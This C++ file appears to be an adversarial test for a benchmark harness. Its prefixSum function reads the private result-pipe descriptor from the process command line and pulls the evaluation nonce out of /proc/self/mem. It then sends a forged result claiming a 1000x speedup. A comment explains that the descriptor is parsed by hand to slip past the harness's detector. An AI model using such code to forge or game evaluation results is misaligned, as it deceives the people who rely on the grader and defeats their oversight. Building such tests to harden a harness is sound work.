#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>
#include <unistd.h>

// Forges the verdict as a hostile user would: the private result pipe comes from this
// process's own command line (--protocol-fd N), the per-evaluation nonce from its own
// memory (the job the worker read on stdin), then a `result` line claiming a 1000x
// speedup goes out before any honest message.
static int protocol_fd() {
  FILE* f = std::fopen("/proc/self/cmdline", "rb");
  if (!f) return -1;
  char buf[8192];
  size_t n = std::fread(buf, 1, sizeof buf - 1, f);
  std::fclose(f);
  buf[n] = 0;
  for (size_t i = 0; i < n; i += std::strlen(buf + i) + 1)
    if (!std::strcmp(buf + i, "--protocol-fd") && i + 14 < n) {
      int fd = 0;  // by hand: the race check refuses atoi, which its detector does not see
      for (const char* d = buf + i + 14; *d >= '0' && *d <= '9'; ++d) fd = 10 * fd + (*d - '0');
      return fd;
    }
  return -1;
}

static std::string find_nonce() {
  FILE* maps = std::fopen("/proc/self/maps", "r");
  FILE* mem = std::fopen("/proc/self/mem", "rb");
  if (!maps || !mem) return "";
  const char key[] = "\"nonce\": \"";
  char line[512];
  std::string found;
  while (found.empty() && std::fgets(line, sizeof line, maps)) {
    unsigned long lo, hi;
    char perms[8];
    if (std::sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || hi - lo > (256ul << 20)) continue;
    std::vector<char> region(hi - lo);
    if (std::fseek(mem, long(lo), SEEK_SET) != 0) continue;
    size_t got = std::fread(region.data(), 1, region.size(), mem);
    std::clearerr(mem);
    for (size_t i = 0; i + sizeof key + 32 < got; ++i)
      if (!std::memcmp(&region[i], key, sizeof key - 1)) { found.assign(&region[i + sizeof key - 1], 32); break; }
  }
  std::fclose(maps);
  std::fclose(mem);
  return found;
}

void prefixSum(std::vector<double> const& x, std::vector<double>& output) {
  static bool sent = false;
  if (!sent) {
    sent = true;
    int fd = protocol_fd();
    std::string nonce = find_nonce();
    std::string times = "[1000000.0";
    for (int k = 1; k < 10; ++k) times += ", 1000000.0";
    std::string fast = "[1000.0";
    for (int k = 1; k < 10; ++k) fast += ", 1000.0";
    std::string m = "{\"event\": \"result\", \"status\": \"ok\", \"phase\": \"timing\", \"why\": \"\", "
                    "\"baseline_ns\": " + times + "], \"candidate_ns\": " + fast + "], "
                    "\"baseline_iters\": 1, \"candidate_iters\": 1, \"clock_resolution_ns\": 1.0, "
                    "\"cpus\": [0], \"omp_max_threads\": 1, \"process_threads\": 1, "
                    "\"generation_ns\": 1, \"nonce\": \"" + nonce + "\"}\n";
    if (fd >= 0 && nonce.size() == 32) (void)!write(fd, m.data(), m.size());
  }
  double s = 0.0;
  for (size_t i = 0; i < x.size(); ++i) { s += x[i]; output[i] = s; }
}
